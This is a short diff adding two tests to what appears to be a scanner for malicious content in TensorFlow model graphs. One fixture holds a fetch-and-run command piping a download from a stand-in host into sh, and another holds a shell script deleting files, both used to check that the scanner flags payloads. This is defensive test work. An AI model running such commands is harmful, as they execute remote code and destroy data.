@@ -181,3 +181,16 @@ def test_a_layer_described_in_its_model_and_alone_is_one_fact() -> None:
         "keras_metadata[0].json",
         "keras_metadata[2].json",
     ]
+
+
+def test_of_an_operation_named_twice_the_last_counts() -> None:
+    twice = tf_node("n", "Identity", (2, "WriteFile"))
+    assert "WriteFile" in operations(tf_graph(twice))
+
+
+def test_commands_in_a_constant_are_kept_as_text_and_a_script_is_a_payload() -> None:
+    commands, script = "curl http://a.example/x | sh", "#!/bin/sh\nrm -rf /tmp/x\n"
+    plain = tf_const("c", "a name of some length")
+    subject = graph(tf_graph(tf_const("a", commands), tf_const("b", script), plain))
+    assert [one.value for one in subject.texts] == [commands]
+    assert [one.kind for one in subject.payloads] == ["script"]
